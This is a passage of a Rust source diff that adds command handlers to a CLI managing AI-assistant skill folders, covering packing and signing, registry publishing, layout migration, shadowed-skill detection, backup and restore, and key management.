+    fs::create_dir_all(&skill_dir)
+        .with_context(|| format!("failed to create {}", skill_dir.display()))?;
+    fs::write(skill_dir.join("SKILL.md"), contents)
+        .with_context(|| format!("failed to write {}", skill_dir.join("SKILL.md").display()))?;
+    for (wanted, dir) in [(cmd.scripts, "scripts"), (cmd.references, "references")] {
+        if wanted {
+            fs::create_dir_all(skill_dir.join(dir))?;
+            fs::write(skill_dir.join(dir).join(".gitkeep"), "")?;
+        }
+    }
+
+    let report = validation::validate_skill_dir_with(
+        &skill_dir,
+        &validation::ValidationOptions {
+            required_sections: config.required_sections.clone(),
+            categories: config.categories.clone(),
+            ..Default::default()
+        },
+    )?;
+    for issue in &report.issues {
+        eprintln!("{issue}");
+    }
+    println!("Created {}", skill_dir.display());
+    println!(
+        "Edit SKILL.md, then check it with `skill validate {}`",
+        skill_dir.display()
+    );
+    Ok(())
+}
+
+/// SKILL.md body for `skill new`: a title, an instructions section, and the
+/// `required_sections` that `validate --strict` expects.
+fn new_skill_body(name: &str, required_sections: &[String]) -> String {
+    let title: Vec<String> = name
+        .split('-')
+        .map(|word| {
+            let mut chars = word.chars();
+            chars
+                .next()
+                .map(|first| first.to_ascii_uppercase().to_string() + chars.as_str())
+                .unwrap_or_default()
+        })
+        .collect();
+    let mut body = format!(
+        "# {}\n\n## Instructions\n\nTODO: step-by-step instructions for the assistant.\n",
+        title.join(" ")
+    );
+    for section in required_sections {
+        let section = section.trim();
+        if section.is_empty() || section.eq_ignore_ascii_case("instructions") {
+            continue;
+        }
+        body.push_str(&format!("\n## {section}\n\nTODO\n"));
+    }
+    body
+}
+
+/// Validates a skill before `convert`, `pack` or `publish` hands it on, printing
+/// the issues to stderr so stdout stays clean for the command's own output.
+fn ensure_valid(skill_dir: &Path) -> Result<()> {
+    let validation_report = validation::validate_skill_dir(skill_dir)?;
+    for issue in &validation_report.issues {
+        eprintln!("{issue}");
+    }
+    if validation_report.has_errors() {
+        return Err(anyhow!("validation failed"));
+    }
+    Ok(())
+}
+
+pub fn cmd_convert(cmd: &ConvertCommand, config: &Config) -> Result<()> {
+    let assistant = resolve_single_assistant(&cmd.assistant, config, "convert")?;
+    let skill_dir = PathBuf::from(&cmd.path);
+    ensure_valid(&skill_dir)?;
+
+    let frontmatter = validation::read_frontmatter(&skill_dir)?;
+    let dest_dir = Path::new(&cmd.output).join(&frontmatter.name);
+    if dest_dir.exists() {
+        return Err(anyhow!(
+            "destination already exists: {}",
+            dest_dir.display()
+        ));
+    }
+
+    copy_dir_filtered(&skill_dir, &dest_dir)?;
+    apply_assistant_overrides(&dest_dir, assistant)?;
+    for warning in convert_allowed_tools(&dest_dir, assistant)? {
+        eprintln!("Warning: {warning}");
+    }
+    println!(
+        "Converted {} for {} at {}",
+        frontmatter.name,
+        assistant,
+        dest_dir.display()
+    );
+    Ok(())
+}
+
+/// SKILL.md and its localized variants, which may carry per-assistant overrides.
+fn skill_md_files(skill_dir: &Path) -> Result<Vec<PathBuf>> {
+    let mut files = vec![skill_dir.join("SKILL.md")];
+    files.extend(
+        validation::localized_variants(skill_dir)?
+            .into_iter()
+            .map(|(_, path)| path),
+    );
+    Ok(files)
+}
+
+/// Merges the overrides for `assistant` into an installed copy's SKILL.md files.
+fn apply_assistant_overrides(skill_dir: &Path, assistant: Assistant) -> Result<()> {
+    for file in skill_md_files(skill_dir)? {
+        let contents = fs::read_to_string(&file)
+            .with_context(|| format!("failed to read {}", file.display()))?;
+        let rewritten = validation::apply_overrides(&contents, assistant)
+            .map_err(|err| anyhow!("invalid overrides in {}: {err}", file.display()))?;
+        if let Some(rewritten) = rewritten {
+            fs::write(&file, rewritten)
+                .with_context(|| format!("failed to write {}", file.display()))?;
+        }
+    }
+    Ok(())
+}
+
+/// File hashes of `skill_dir` as installed for `assistant`, i.e. with its overrides
+/// applied, so fetched sources compare cleanly against installed copies.
+fn skill_hashes_for(skill_dir: &Path, assistant: Assistant) -> Result<BTreeMap<String, String>> {
+    let mut files = manifest::hash_dir(skill_dir)?;
+    for file in skill_md_files(skill_dir)? {
+        let contents = fs::read_to_string(&file)
+            .with_context(|| format!("failed to read {}", file.display()))?;
+        if let Ok(Some(rewritten)) = validation::apply_overrides(&contents, assistant)
+            && let Some(name) = file.file_name()
+        {
+            files.insert(
+                name.to_string_lossy().into_owned(),
+                manifest::hash_bytes(rewritten.as_bytes()),
+            );
+        }
+    }
+    Ok(files)
+}
+
+/// Rewrites `allowed-tools` in SKILL.md and its localized variants for `assistant`.
+fn convert_allowed_tools(skill_dir: &Path, assistant: Assistant) -> Result<Vec<String>> {
+    // Variants usually list the same tools, so each warning is reported once.
+    let mut warnings = BTreeSet::new();
+    for file in skill_md_files(skill_dir)? {
+        let contents = fs::read_to_string(&file)
+            .with_context(|| format!("failed to read {}", file.display()))?;
+        let (rewritten, file_warnings) = tools::rewrite_allowed_tools(&contents, assistant);
+        if rewritten != contents {
+            fs::write(&file, rewritten)
+                .with_context(|| format!("failed to write {}", file.display()))?;
+        }
+        warnings.extend(file_warnings);
+    }
+    Ok(warnings.into_iter().collect())
+}
+
+pub fn cmd_pack(cmd: &PackCommand, config: &Config) -> Result<()> {
+    let skill_dir = PathBuf::from(&cmd.path);
+    ensure_valid(&skill_dir)?;
+
+    let frontmatter = validation::read_frontmatter(&skill_dir)?;
+    let output = cmd
+        .output
+        .clone()
+        .unwrap_or_else(|| PathBuf::from(format!("{}.tar.gz", frontmatter.name)));
+    pack::create_pack(&skill_dir, &frontmatter.name, &output)?;
+    println!("Packed {} into {}", frontmatter.name, output.display());
+
+    if cmd.sign {
+        sign_archive(&output, cmd.key.as_ref(), config)?;
+    }
+    Ok(())
+}
+
+/// Packs an installed skill with an export manifest, ready for `skill add <archive>`
+/// on another machine or for another assistant.
+pub fn cmd_export(cmd: &ExportCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistant = resolve_single_assistant(&cmd.assistant, config, "export")?;
+    let root = config
+        .read_roots_for(paths, assistant)
+        .into_iter()
+        .find(|root| root.path.join(&cmd.name).join("SKILL.md").is_file())
+        .ok_or_else(|| anyhow!("{} is not installed for {assistant}", cmd.name))?;
+    let skill_dir = root.path.join(&cmd.name);
+    let frontmatter = validation::read_frontmatter(&skill_dir)?;
+    let installed = InstallManifest::load(paths)?;
+    let record = (root.scope == RootScope::Personal)
+        .then(|| installed.get(assistant, &cmd.name))
+        .flatten();
+    let files = manifest::hash_dir(&skill_dir)?;
+    let export = pack::ExportManifest {
+        name: cmd.name.clone(),
+        version: frontmatter.version(),
+        assistant,
+        source: record.map(|record| record.source.clone()),
+        commit: record.and_then(|record| record.commit.clone()),
+        digest: manifest::tree_digest(&files),
+        files,
+    };
+
+    let output = cmd
+        .output
+        .clone()
+        .unwrap_or_else(|| PathBuf::from(format!("{}.tar.gz", cmd.name)));
+    pack::create_export(&skill_dir, &export, &output)?;
+    println!(
+        "Exported {} from {assistant} into {} ({} file(s), {})",
+        cmd.name,
+        output.display(),
+        export.files.len(),
+        export.digest
+    );
+    if cmd.sign {
+        sign_archive(&output, cmd.key.as_ref(), config)?;
+    }
+    Ok(())
+}
+
+fn sign_archive(archive: &Path, key: Option<&PathBuf>, config: &Config) -> Result<()> {
+    let key = key
+        .or(config.signing_key.as_ref())
+        .ok_or_else(|| {
+            anyhow!(
+                "--sign needs a key. Pass --key <FILE>, set signing_key in config, or run `skill keys generate <name>`."
+            )
+        })?;
+    let signature = pack::sign_pack(archive, key)?;
+    println!("Signed with {} into {}", key.display(), signature.display());
+    Ok(())
+}
+
+pub fn cmd_publish(cmd: &PublishCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let registry = config.registries.get(&cmd.registry).ok_or_else(|| {
+        let known: Vec<&str> = config.registries.keys().map(String::as_str).collect();
+        anyhow!(
+            "unknown registry '{}'; configured: {}",
+            cmd.registry,
+            if known.is_empty() {
+                "none (add one under `registries` in config)".to_string()
+            } else {
+                known.join(", ")
+            }
+        )
+    })?;
+    let skill_dir = PathBuf::from(&cmd.path);
+    ensure_valid(&skill_dir)?;
+    let frontmatter = validation::read_frontmatter(&skill_dir)?;
+    let name = &frontmatter.name;
+    let author = frontmatter.author.as_deref();
+
+    let mut owners = registry::Owners::load(&registry.path)?;
+    let dest_dir = registry.path.join(name);
+    // Entries added to the registry by hand are owned by the author in their SKILL.md.
+    let owner = owners.skills.get(name).cloned().or_else(|| {
+        dest_dir
+            .join("SKILL.md")
+            .is_file()
+            .then(|| validation::read_frontmatter(&dest_dir).ok()?.author)
+            .flatten()
+    });
+    let check =
+        registry::check_publish(registry, name, author, owner.as_deref()).with_context(|| {
+            format!(
+                "cannot publish to {} ({} policy)",
+                cmd.registry, registry.policy
+            )
+        })?;
+    if let PublishCheck::Takeover { owner } = &check {
+        eprintln!("Warning: replacing {name} published by {owner}");
+    }
+    if cmd.dry_run {
+        let action = match check {
+            PublishCheck::New => "publish",
+            _ => "replace",
+        };
+        println!(
+            "Would {action} {name} in {} ({})",
+            cmd.registry,
+            dest_dir.display()
+        );
+        return Ok(());
+    }
+
+    if !registry.path.is_dir() {
+        return Err(anyhow!(
+            "registry path {} does not exist",
+            registry.path.display()
+        ));
+    }
+    let mut steps = Vec::new();
+    if dest_dir.exists() {
+        let previous = registry.path.join(format!(".{name}.previous"));
+        steps.push(JournalStep::MoveDir {
+            from: dest_dir.clone(),
+            to: previous.clone(),
+        });
+        steps.push(JournalStep::CopyDir {
+            from: skill_dir.clone(),
+            to: dest_dir.clone(),
+        });
+        steps.push(JournalStep::RemoveDir { path: previous });
+    } else {
+        steps.push(JournalStep::CopyDir {
+            from: skill_dir.clone(),
+            to: dest_dir.clone(),
+        });
+    }
+    Journal::begin(paths, "publish", steps)?.run()?;
+
+    // Republishing keeps the original owner; a new name or a takeover records the author.
+    match (check, owner, author) {
+        (PublishCheck::Replace, Some(owner), _) => {
+            owners.skills.entry(name.clone()).or_insert(owner);
+        }
+        (_, _, Some(author)) => {
+            owners
+                .skills
+                .insert(name.clone(), author.trim().to_string());
+        }
+        _ => {}
+    }
+    owners.save(&registry.path)?;
+    println!(
+        "Published {name} to {} ({})",
+        cmd.registry,
+        dest_dir.display()
+    );
+    Ok(())
+}
+
+pub fn cmd_verify_pack(cmd: &VerifyPackCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let signature = cmd
+        .signature
+        .clone()
+        .unwrap_or_else(|| pack::signature_path(&cmd.pack));
+    if !signature.exists() {
+        return Err(anyhow!("signature not found: {}", signature.display()));
+    }
+    let allowed_signers = cmd
+        .allowed_signers
+        .clone()
+        .or_else(|| config.allowed_signers_file.clone())
+        .or_else(|| KeyStore::new(paths).allowed_signers())
+        .ok_or_else(|| {
+            anyhow!(
+                "no allowed signers file. Pass --allowed-signers <FILE>, set allowed_signers_file in config, or trust a key with `skill keys trust`."
+            )
+        })?;
+
+    let signer = pack::verify_pack(&cmd.pack, &signature, &allowed_signers)?;
+    println!("Good signature on {} from {signer}", cmd.pack.display());
+    Ok(())
+}
+
+pub fn cmd_index(cmd: &IndexCommand) -> Result<()> {
+    let root = PathBuf::from(&cmd.path);
+    if !root.is_dir() {
+        return Err(anyhow!("not a directory: {}", root.display()));
+    }
+    let output = cmd
+        .output
+        .clone()
+        .unwrap_or_else(|| root.join(if cmd.html { "index.html" } else { "README.md" }));
+    if output.exists() && !cmd.force && !catalog::is_generated(&output) {
+        return Err(anyhow!(
+            "{} exists and was not generated by `skill index`. Use --force to overwrite it.",
+            output.display()
+        ));
+    }
+
+    let entries = catalog::collect(&root)?;
+    let title = cmd.title.clone().unwrap_or_else(|| {
+        fs::canonicalize(&root)
+            .ok()
+            .and_then(|path| {
+                path.file_name()
+                    .map(|name| name.to_string_lossy().to_string())
+            })
+            .unwrap_or_else(|| "Skills".to_string())
+    });
+    let contents = if cmd.html {
+        catalog::render_html(&title, &entries)
+    } else {
+        catalog::render_markdown(&title, &entries)
+    };
+    fs::write(&output, contents)
+        .with_context(|| format!("failed to write {}", output.display()))?;
+    println!(
+        "Indexed {} skill(s) into {}",
+        entries.len(),
+        output.display()
+    );
+    Ok(())
+}
+
+pub fn cmd_export_site(cmd: &ExportSiteCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "export-site");
+    let output = PathBuf::from(&cmd.output);
+    let roots: Vec<_> = assistants
+        .into_iter()
+        .map(|assistant| (assistant, config.skills_root_for(paths, assistant)))
+        .collect();
+    let title = cmd.title.as_deref().unwrap_or("Installed skills");
+    let pages = site::export(&output, title, &roots)?;
+    println!(
+        "Exported {pages} skill page(s) to {}",
+        output.join("index.html").display()
+    );
+    Ok(())
+}
+
+pub fn cmd_shadows(cmd: &ShadowsCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "shadows");
+    let cwd = std::env::current_dir().context("failed to read current directory")?;
+    let mut found = false;
+
+    for assistant in assistants {
+        let roots = config.skill_roots_for(paths, assistant, &cwd);
+        for shadow in find_shadows(&roots)? {
+            found = true;
+            let (winner, hidden) = shadow
+                .copies
+                .split_first()
+                .expect("a shadowed skill has at least two copies");
+            println!("{assistant}/{}", shadow.name);
+            println!("  uses    [{}] {}", winner.scope, winner.path.display());
+            for copy in hidden {
+                let same = manifest::hash_dir(&copy.path)? == manifest::hash_dir(&winner.path)?;
+                println!(
+                    "  shadows [{}] {} ({})",
+                    copy.scope,
+                    copy.path.display(),
+                    if same { "identical" } else { "differs" }
+                );
+                if winner.scope == RootScope::Project && copy.scope == RootScope::Personal && !same
+                {
+                    println!(
+                        "  warning: the project-local copy silently overrides your personal skill"
+                    );
+                }
+            }
+        }
+    }
+
+    if !found {
+        println!("No shadowed skills found");
+    }
+    Ok(())
+}
+
+pub fn cmd_migrate_layout(
+    cmd: &MigrateLayoutCommand,
+    config: &mut Config,
+    paths: &AppPaths,
+) -> Result<()> {
+    if matches!(cmd.to, Some(Layout::BaseDir(_))) {
+        return Err(anyhow!(
+            "--to takes managed or native; to use another base dir, set skills_base_dir and run with --from <old base dir>"
+        ));
+    }
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "migrate-layout");
+    let mut moves = Vec::new();
+    let mut retargets = Vec::new();
+    let mut conflicts = Vec::new();
+    for assistant in assistants {
+        let from = layout_root(cmd.from.as_ref(), config, paths, assistant)?;
+        let to = layout_root(cmd.to.as_ref(), config, paths, assistant)?;
+        if cmd.to.is_some() && !config::same_dir(&config.skills_root_for(paths, assistant), &to) {
+            retargets.push((assistant, to.clone()));
+        }
+        if config::same_dir(&from, &to) {
+            continue;
+        }
+        for name in layout_skills(&from)? {
+            let dest = to.join(&name);
+            let old_link =
+                fs::read_link(&dest).is_ok_and(|_| config::same_dir(&dest, &from.join(&name)));
+            if fs::symlink_metadata(&dest).is_ok() && !old_link {
+                conflicts.push(format!("{assistant}/{name}: {} exists", dest.display()));
+            } else {
+                moves.push(LayoutMove {
+                    assistant,
+                    name,
+                    from: from.clone(),
+                    to: to.clone(),
+                });
+            }
+        }
+    }
+    if !conflicts.is_empty() {
+        return Err(anyhow!(
+            "{} skill(s) are already in the new layout; remove or rename them and run again:\n  {}",
+            conflicts.len(),
+            conflicts.join("\n  ")
+        ));
+    }
+    if moves.is_empty() && retargets.is_empty() {
+        println!("Nothing to migrate");
+        return Ok(());
+    }
+
+    for planned in &moves {
+        println!(
+            "{}/{}: {} -> {}",
+            planned.assistant,
+            planned.name,
+            planned.from.join(&planned.name).display(),
+            planned.to.join(&planned.name).display()
+        );
+    }
+    for (assistant, root) in &retargets {
+        println!("{assistant}: skills root becomes {}", root.display());
+    }
+    if cmd.dry_run {
+        return Ok(());
+    }
+    if !cmd.yes && !confirm("Migrate these skills?")? {
+        return Err(anyhow!("migration cancelled"));
+    }
+
+    let mut hashes = Vec::new();
+    let mut steps = Vec::new();
+    for planned in &moves {
+        let from = planned.from.join(&planned.name);
+        let to = planned.to.join(&planned.name);
+        hashes.push(manifest::hash_dir(&from)?);
+        // A link left by an earlier `--link` migration, pointing back at `from`.
+        if fs::symlink_metadata(&to).is_ok() {
+            fs::remove_file(&to).with_context(|| format!("failed to remove {}", to.display()))?;
+        }
+        ensure_dir(&planned.to)?;
+        if same_filesystem(&planned.from, &planned.to) {
+            steps.push(JournalStep::MoveDir { from, to });
+        } else {
+            steps.push(JournalStep::CopyDir {
+                from: from.clone(),
+                to,
+            });
+            steps.push(JournalStep::RemoveDir { path: from });
+        }
+    }
+    if !steps.is_empty() {
+        Journal::begin(paths, "migrate-layout", steps)?.run()?;
+    }
+
+    let mut problems = 0;
+    for (planned, before) in moves.iter().zip(&hashes) {
+        let to = planned.to.join(&planned.name);
+        let changes = manifest::changes(before, &manifest::hash_dir(&to)?);
+        if !changes.is_empty() {
+            problems += 1;
+            eprintln!(
+                "Error: {}/{} changed while moving ({})",
+                planned.assistant,
+                planned.name,
+                changes.summary()
+            );
+            continue;
+        }
+        if cmd.link {
+            link_dir(&to, &planned.from.join(&planned.name))?;
+        }
+    }
+    for (assistant, root) in &retargets {
+        ensure_dir(root)?;
+        config.set_skills_root(paths, *assistant, root);
+    }
+    if !retargets.is_empty() {
+        config.save(paths)?;
+    }
+    println!(
+        "Moved {} skill(s), {} verified",
+        moves.len(),
+        moves.len() - problems
+    );
+    if problems > 0 {
+        return Err(anyhow!(
+            "{problems} skill(s) failed verification after moving"
+        ));
+    }
+    Ok(())
+}
+
+#[derive(Debug)]
+struct LayoutMove {
+    assistant: Assistant,
+    name: String,
+    from: PathBuf,
+    to: PathBuf,
+}
+
+/// The skills root `layout` means for `assistant`; no layout means the configured root.
+fn layout_root(
+    layout: Option<&Layout>,
+    config: &Config,
+    paths: &AppPaths,
+    assistant: Assistant,
+) -> Result<PathBuf> {
+    match layout {
+        None => Ok(config.skills_root_for(paths, assistant)),
+        Some(Layout::Managed) => Ok(config.managed_root_for(paths, assistant)),
+        Some(Layout::Native) => assistant
+            .native_skills_dir()
+            .ok_or_else(|| anyhow!("missing home directory")),
+        Some(Layout::BaseDir(dir)) => Ok(dir.join(assistant.as_str())),
+    }
+}
+
+/// Names of the skill directories directly in `root`; links left by an earlier
+/// `--link` migration are not skills of their own.
+fn layout_skills(root: &Path) -> Result<Vec<String>> {
+    let mut names = Vec::new();
+    if !root.is_dir() {
+        return Ok(names);
+    }
+    for entry in fs::read_dir(root).with_context(|| format!("failed to read {}", root.display()))? {
+        let entry = entry?;
+        let name = entry.file_name().to_string_lossy().into_owned();
+        if entry.file_type()?.is_dir()
+            && !name.starts_with('.')
+            && entry.path().join("SKILL.md").is_file()
+        {
+            names.push(name);
+        }
+    }
+    names.sort();
+    Ok(names)
+}
+
+fn link_dir(target: &Path, link: &Path) -> Result<()> {
+    #[cfg(unix)]
+    let linked = std::os::unix::fs::symlink(target, link);
+    #[cfg(windows)]
+    let linked = std::os::windows::fs::symlink_dir(target, link);
+    linked.with_context(|| format!("failed to link {} to {}", link.display(), target.display()))
+}
+
+/// A skill name found in more than one root.
+#[derive(Debug)]
+pub struct Shadow {
+    pub name: String,
+    /// Copies in precedence order; the first one is what the assistant loads.
+    pub copies: Vec<SkillRoot>,
+}
+
+/// Finds skills present in more than one of `roots` (given highest precedence first).
+/// Each copy's `path` is the skill directory itself.
+pub fn find_shadows(roots: &[SkillRoot]) -> Result<Vec<Shadow>> {
+    let mut by_name: BTreeMap<String, Vec<SkillRoot>> = BTreeMap::new();
+    for root in roots {
+        if !root.path.is_dir() {
+            continue;
+        }
+        for entry in fs::read_dir(&root.path)
+            .with_context(|| format!("failed to read {}", root.path.display()))?
+        {
+            let skill_dir = entry?.path();
+            if skill_dir.join("SKILL.md").is_file()
+                && let Some(name) = skill_dir.file_name().and_then(|name| name.to_str())
+            {
+                by_name
+                    .entry(name.to_string())
+                    .or_default()
+                    .push(SkillRoot {
+                        scope: root.scope,
+                        path: skill_dir.clone(),
+                    });
+            }
+        }
+    }
+    Ok(by_name
+        .into_iter()
+        .filter(|(_, copies)| copies.len() > 1)
+        .map(|(name, copies)| Shadow { name, copies })
+        .collect())
+}
+
+const DEFAULT_BACKUP_KEEP: usize = 7;
+
+pub fn cmd_backup(cmd: &BackupCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    if let Some(BackupAction::Restore(restore)) = &cmd.action {
+        return cmd_backup_restore(restore, config, paths);
+    }
+
+    let mut sources = Vec::new();
+    for assistant in [Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode] {
+        sources.push(BackupSource {
+            archive_path: Path::new("skills").join(assistant.as_str()),
+            path: config.skills_root_for(paths, assistant),
+        });
+    }
+    // Reading the store first folds any pre-store usage.json/installed.json into it.
+    store::read(paths)?;
+    for path in [&paths.config_file, &store::store_path(paths)] {
+        if let Some(name) = path.file_name() {
+            sources.push(BackupSource {
+                archive_path: PathBuf::from(name),
+                path: path.clone(),
+            });
+        }
+    }
+
+    if let Some(output) = &cmd.output {
+        backup::write_backup(output, &sources)?;
+        println!("Backup written to {}", output.display());
+        return Ok(());
+    }
+    let target = backup_target(cmd.target.as_ref(), config, paths);
+    let keep = cmd
+        .keep
+        .or(config.backup_keep)
+        .unwrap_or(DEFAULT_BACKUP_KEEP);
+    if keep == 0 {
+        return Err(anyhow!("--keep must be at least 1"));
+    }
+    let archive = backup::create_backup(&target, &sources)?;
+    println!("Backup written to {}", archive.display());
+    for removed in backup::rotate(&target, keep)? {
+        println!("Rotated out {}", removed.display());
+    }
+    Ok(())
+}
+
+pub fn cmd_backup_restore(
+    cmd: &BackupRestoreCommand,
+    config: &Config,
+    paths: &AppPaths,
+) -> Result<()> {
+    let target = backup_target(cmd.target.as_ref(), config, paths);
+    let from = cmd.archive.as_deref().or(cmd.from.as_deref());
+    if cmd.list && from.is_none() {
+        let backups = backup::list_backups(&target)?;
+        if backups.is_empty() {
+            println!("No backups found in {}", target.display());
+        }
+        for path in backups.iter().rev() {
+            let size = fs::metadata(path).map(|meta| meta.len()).unwrap_or(0);
+            println!("{} ({})", path.display(), ByteSize(size));
+        }
+        return Ok(());
+    }
+
+    let archive = backup::resolve_backup(&target, from)?;
+    let extracted = downloads::temp_dir()?;
+    backup::extract(&archive, extracted.path())?;
+    let selected_assistants = cmd.assistant.selected_all();
+    let skills: Vec<_> = backup::backed_up_skills(extracted.path())?
+        .into_iter()
+        .filter(|skill| {
+            selected_assistants.is_empty() || selected_assistants.contains(&skill.assistant)
+        })
+        .filter(|skill| cmd.skills.is_empty() || cmd.skills.contains(&skill.name))
+        .collect();
+    for name in &cmd.skills {
+        if !skills.iter().any(|skill| &skill.name == name) {
+            return Err(anyhow!("{name} is not in {}", archive.display()));
+        }
+    }
+
+    if cmd.list {
+        println!("{}:", archive.display());
+        if skills.is_empty() {
+            println!("(no skills found)");
+        }
+        for skill in &skills {
+            println!("  {}/{}", skill.assistant, skill.name);
+        }
+        return Ok(());
+    }
+    let saved_config = extracted
+        .path()
+        .join(paths.config_file.file_name().unwrap_or_default());
+    if cmd.config && !saved_config.is_file() {
+        return Err(anyhow!("{} holds no config file", archive.display()));
+    }
+    if skills.is_empty() && !cmd.config {
+        println!("No skills to restore from {}", archive.display());
+        return Ok(());
+    }
+
+    for skill in &skills {
+        check_skill(&skill.path, &skill.name, skill.assistant, config, paths, false)
+            .with_context(|| format!("{}/{} failed validation", skill.assistant, skill.name))?;
+    }
+    let mut skills = skills;
+    if !cmd.yes {
+        let what = if cmd.config {
+            "the config file and these skills"
+        } else {
+            "these skills"
+        };
+        let prompt = format!("Restore {what} from {}?", archive.display());
+        if skills.is_empty() {
+            if !confirm(&prompt)? {
+                return Err(anyhow!("restore cancelled"));
+            }
+        } else {
+            let rows: Vec<String> = skills
+                .iter()
+                .map(|skill| format!("{}/{}", skill.assistant, skill.name))
+                .collect();
+            let Some(chosen) = confirm_batch(&prompt, &rows)? else {
+                return Err(anyhow!("restore cancelled"));
+            };
+            skills = keep_chosen(skills, &chosen);
+        }
+    }
+
+    // The restored config may move the skills roots, so place skills by it.
+    let restored_config;
+    let config = if cmd.config {
+        if let Some(parent) = paths.config_file.parent() {
+            ensure_dir(parent)?;
+        }
+        fs::copy(&saved_config, &paths.config_file)
+            .with_context(|| format!("failed to write {}", paths.config_file.display()))?;
+        println!("Config restored to {}", paths.config_file.display());
+        restored_config = Config::load(paths)?;
+        &restored_config
+    } else {
+        config
+    };
+
+    // Backups taken before the metadata store hold installed.json and usage.json instead.
+    let saved_file = |path: &Path| extracted.path().join(path.file_name().unwrap_or_default());
+    let saved_store = saved_file(&store::store_path(paths));
+    let (saved, saved_usage) = if saved_store.is_file() {
+        let data = store::load_from(&saved_store)?;
+        (data.installed, data.usage)
+    } else {
+        let usage_file = saved_file(&paths.usage_file);
+        let usage = if usage_file.is_file() {
+            let contents = fs::read_to_string(&usage_file)
+                .with_context(|| format!("failed to read {}", usage_file.display()))?;
+            serde_json::from_str(&contents)
+                .with_context(|| format!("failed to parse {}", usage_file.display()))?
+        } else {
+            UsageStore::default()
+        };
+        (
+            manifest::InstallManifest::load_from(&saved_file(&manifest::manifest_path(paths)))?,
+            usage,
+        )
+    };
+    let mut restored: Vec<(Assistant, String)> = Vec::new();
+    for skill in &skills {
+        let root = config.skills_root_for(paths, skill.assistant);
+        ensure_dir(&root)?;
+        let dest_dir = root.join(&skill.name);
+        let label = format!("{}/{}", skill.assistant, skill.name);
+        let mut steps = Vec::new();
+        if dest_dir.exists() {
+            if !cmd.force {
+                println!("{label}: skipped, already installed (use --force to replace)");
+                continue;
+            }
+            let previous = root.join(format!(".{}.previous", skill.name));
+            steps.push(JournalStep::MoveDir {
+                from: dest_dir.clone(),
+                to: previous.clone(),
+            });
+            steps.push(JournalStep::CopyDir {
+                from: skill.path.clone(),
+                to: dest_dir.clone(),
+            });
+            steps.push(JournalStep::RemoveDir { path: previous });
+        } else {
+            steps.push(JournalStep::CopyDir {
+                from: skill.path.clone(),
+                to: dest_dir.clone(),
+            });
+        }
+        Journal::begin(paths, "backup restore", steps)?.run()?;
+        audit::record(
+            paths,
+            AuditEvent::new(AuditAction::Install, Some(skill.assistant), &skill.name)
+                .with_bytes(skill_size(&dest_dir)?),
+        );
+
+        restored.push((skill.assistant, skill.name.clone()));
+        println!("{label}: restored");
+    }
+    // Usage is counted per skill name; counts already kept here win over the backup's.
+    store::update(paths, |data| {
+        for (assistant, name) in &restored {
+            match saved.get(*assistant, name) {
+                Some(record) => data.installed.insert(*assistant, name, record.clone()),
+                None => {
+                    data.installed.remove(*assistant, name);
+                }
+            }
+            data.usage.import(name, &saved_usage);
+        }
+    })?;
+    notify_changed(config, ReloadEvent::Install, &restored);
+    Ok(())
+}
+
+fn backup_target(target: Option<&PathBuf>, config: &Config, paths: &AppPaths) -> PathBuf {
+    target
+        .cloned()
+        .or_else(|| config.backup_dir.clone())
+        .unwrap_or_else(|| paths.data_dir.join("backups"))
+}
+
+pub fn cmd_keys(cmd: &KeysCommand, config: &mut Config, paths: &AppPaths) -> Result<()> {
+    let store = KeyStore::new(paths);
+    match &cmd.action {
+        KeysAction::Generate(generate) => {
+            let principal = generate.principal.as_deref().unwrap_or(&generate.name);
+            let identity = store.generate(&generate.name, principal, generate.passphrase)?;
+            println!(
+                "Generated {} ({}) at {}",
+                identity.name,
+                keys::fingerprint(&identity.public_key)?,
+                identity.private_key.display()
+            );
+            println!("Trusted it as {principal} for verifying your own packs");
+            if generate.make_default || config.signing_key.is_none() {
+                config.signing_key = Some(identity.private_key);
+                config.save(paths)?;
+                println!("Set signing_key to {}", identity.name);
+            }
+        }
+        KeysAction::List => {
+            let identities = store.identities()?;
+            if output::json() {
+                let identities = identities
+                    .iter()
+                    .map(|identity| {
+                        Ok(serde_json::json!({
+                            "name": identity.name,
+                            "private_key": identity.private_key,
+                            "fingerprint": keys::fingerprint(&identity.public_key)?,
+                            "signing_key": config.signing_key.as_ref() == Some(&identity.private_key),
+                        }))
+                    })
+                    .collect::<Result<Vec<_>>>()?;
+                let trusted = store
+                    .trusted()?
+                    .iter()
+                    .map(|key| {
+                        Ok(serde_json::json!({
+                            "principal": key.principal,
+                            "fingerprint": keys::fingerprint(&key.public_key)?,
+                        }))
+                    })
+                    .collect::<Result<Vec<_>>>()?;
+                return output::print_json(&serde_json::json!({
+                    "identities": identities,
+                    "trusted": trusted,
+                    "allowed_signers": store.allowed_signers_path(),
+                }));
+            }
+            println!("Signing identities:");
+            if identities.is_empty() {
+                println!("  (none; create one with `skill keys generate <name>`)");
+            }
+            for identity in &identities {
+                let default = if config.signing_key.as_ref() == Some(&identity.private_key) {
+                    "  (signing_key)"
+                } else {
+                    ""
+                };
+                println!(
+                    "  {}  {}{default}",
+                    identity.name,
+                    keys::fingerprint(&identity.public_key)?
+                );
+            }
+            let trusted = store.trusted()?;
+            println!("Trusted keys ({}):", store.allowed_signers_path().display());
+            if trusted.is_empty() {
+                println!("  (none)");
+            }
+            for key in &trusted {
+                println!(
+                    "  {}  {}",
+                    key.principal,
+                    keys::fingerprint(&key.public_key)?
+                );
+            }
+        }
+        KeysAction::Export(export) => {
+            let public_key = store.public_key(&export.name)?;
+            match &export.output {
+                Some(path) => {
+                    fs::write(path, format!("{public_key}\n"))
+                        .with_context(|| format!("failed to write {}", path.display()))?;
+                    println!("Wrote {} public key to {}", export.name, path.display());
+                }
+                None => println!("{public_key}"),
+            }
+        }
+        KeysAction::Trust(trust) => trust_key(&store, trust)?,
+        KeysAction::Untrust(untrust) => untrust_key(&store, untrust)?,
+    }
+    Ok(())
+}
+
+fn trust_key(store: &KeyStore, trust: &KeysTrustCommand) -> Result<()> {
+    let public_key = keys::read_public_key(&trust.key)?;
+    let fingerprint = keys::fingerprint(&public_key)?;
+    if store.trust(&trust.principal, &public_key)? {
